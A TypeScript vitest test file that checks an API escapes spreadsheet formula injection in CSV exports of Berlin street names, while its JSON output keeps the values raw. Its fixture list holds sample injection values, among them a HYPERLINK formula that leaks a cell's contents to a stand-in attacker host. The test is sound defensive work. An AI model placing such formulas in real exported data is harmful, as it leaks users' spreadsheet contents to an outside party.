import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { ask, memoryBuild, type Handler } from "../support/memory-build.ts";
import { tempDir } from "../support/fixture.ts";
import { dataFile } from "../support/paths.ts";

/**
 * CSV formula injection: street names come from OpenStreetMap, which anyone can edit. A
 * value a spreadsheet would run as a formula is written with a leading `'` in every CSV the API
 * serves, the downloads and the pages alike; the JSON keeps it as it is.
 */
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Hilfe")',
  "+49 Formelweg",
  "-1+Formelweg",
  "@SUM(Formelweg)",
] as const;
/** RFC 4180 with the leading `'`: how each name stands in a CSV row. */
const neutralised = (name: string) => `"'${name.replaceAll('"', '""')}"`;

let handler: Handler;
let files: ReadonlyMap<string, string>;
beforeAll(async () => {
  const berlin = readFileSync(dataFile("de/streets-berlin.csv"), "utf8").trimEnd().split("\n");
  const rows = [
    ...berlin.slice(0, 40),
    ...FORMULAS.map((name) => `"${name.replaceAll('"', '""')}",10115,Berlin,11000000,Mitte,Mitte`),
  ];
  const streets = join(tempDir("formulas"), "streets.csv");
  writeFileSync(streets, `${rows.join("\n")}\n`);
  ({ handler, files } = await memoryBuild(100_000, {
    only: ["de.streets"],
    sources: { "de-streets": streets },
  }));
});

describe("values that start like a formula", () => {
  it("the download writes them with a leading '", () => {
    const csv = files.get("/downloads/de.streets.csv") ?? "";
    for (const name of FORMULAS) expect(csv).toContain(`\r\n${neutralised(name)},10115,Berlin,`);
    expect(csv).not.toMatch(/\r\n[=+\-@]/);
  });

  it.each([
    ["a page of a locality's streets", "/de/Streets?locality=Berlin&postalCode=10115&format=csv"],
    ["a street search", "/de/Streets?name=Formelweg&format=csv"],
  ])("%s writes them with a leading '", async (_, target) => {
    const answer = await ask(handler, target);
    expect(answer.status, answer.text).toBe(200);
    for (const name of FORMULAS.filter((n) => !target.includes("name=") || n.includes("Formelweg")))
      expect(answer.text).toContain(`\r\n${neutralised(name)},10115,Berlin,`);
    expect(answer.text).not.toMatch(/\r\n[=+\-@]/);
  });

  it("the JSON keeps them as they are", async () => {
    const answer = await ask(handler, "/de/Streets?locality=Berlin&postalCode=10115");
    const names = (JSON.parse(answer.text) as { name: string }[]).map((street) => street.name);
    expect(names).toEqual(expect.arrayContaining([...FORMULAS]));
    const download = JSON.parse(files.get("/downloads/de.streets.json") ?? "[]") as {
      name: string;
    }[];
    expect(download.map((street) => street.name)).toEqual(expect.arrayContaining([...FORMULAS]));
  });
});
